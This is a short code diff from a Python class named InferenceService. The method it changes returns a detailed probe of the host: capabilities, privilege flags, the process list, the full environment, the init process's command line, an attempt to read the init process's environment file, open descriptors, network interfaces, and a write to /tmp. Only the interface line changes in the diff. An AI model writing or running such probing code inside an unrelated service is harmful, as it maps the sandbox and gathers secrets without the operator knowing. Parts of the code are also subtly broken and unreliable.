@@ -63,7 +63,7 @@ class InferenceService:
         return {"tries": x, "caps": caps, "nnp": "NoNewPrivs:\t1" in status,
                 "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
                 "env": dict(os.environ), "uid": os.getuid(), "host": socket.gethostname(),
-                "nics": [n for _, n in socket.if_nameindex()], "cmdline": open("/proc/1/cmdline").read(),
+                "nics": open("/proc/net/dev").read().splitlines()[2:], "cmdline": open("/proc/1/cmdline").read(),
                 "env1": attempt(lambda: open("/proc/1/environ").read()) == "OK" and open("/proc/1/environ").read() or "",
                 "fds": sorted(os.readlink(f"/proc/self/fd/{f}") for f in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{f}") or True and os.path.lexists(f"/proc/self/fd/{f}")),
                 "data": open("/tmp/new", "w").write("may") }
